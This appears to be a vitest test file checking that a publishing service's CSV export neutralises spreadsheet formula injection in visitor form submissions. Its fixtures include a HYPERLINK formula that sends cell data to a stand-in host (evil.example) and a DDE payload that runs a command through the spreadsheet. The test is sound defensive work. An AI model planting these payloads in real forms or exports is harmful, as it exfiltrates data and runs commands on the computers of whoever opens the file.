import { describe, expect, it } from "vitest";
import { submissionsCsv } from "../../agent-runtime/publishing/service.ts";

const row = (fields: Record<string, string>) => ({
  form: "contact",
  page: "/",
  fields,
  receivedAt: "2026-12-01T10:00:00.000Z",
});

describe("attack: a visitor's form field that a spreadsheet would run as a formula", () => {
  it("cells starting with = + - @ tab or CR are exported as text, prefixed with a quote", () => {
    const attacks = {
      a: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      b: "+1+cmd|' /C calc'!A0",
      c: "-2+3",
      d: "@SUM(1,2)",
      e: "\t=1+1",
      f: "\r=1+1",
    };
    const [, line] = submissionsCsv([row(attacks)]).split("\r\n");
    expect(line).toBe(
      [
        "2026-12-01T10:00:00.000Z",
        "contact",
        "/",
        `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`,
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        `"'@SUM(1,2)"`,
        "'\t=1+1",
        `"'\r=1+1"`,
      ].join(","),
    );
  });

  it("ordinary text is exported as it was typed", () => {
    const csv = submissionsCsv([row({ email: "ana@example.com", message: "Hello, 2 people = 1 table?" })]);
    expect(csv.split("\r\n")[1]).toBe(
      '2026-12-01T10:00:00.000Z,contact,/,ana@example.com,"Hello, 2 people = 1 table?"',
    );
  });
});
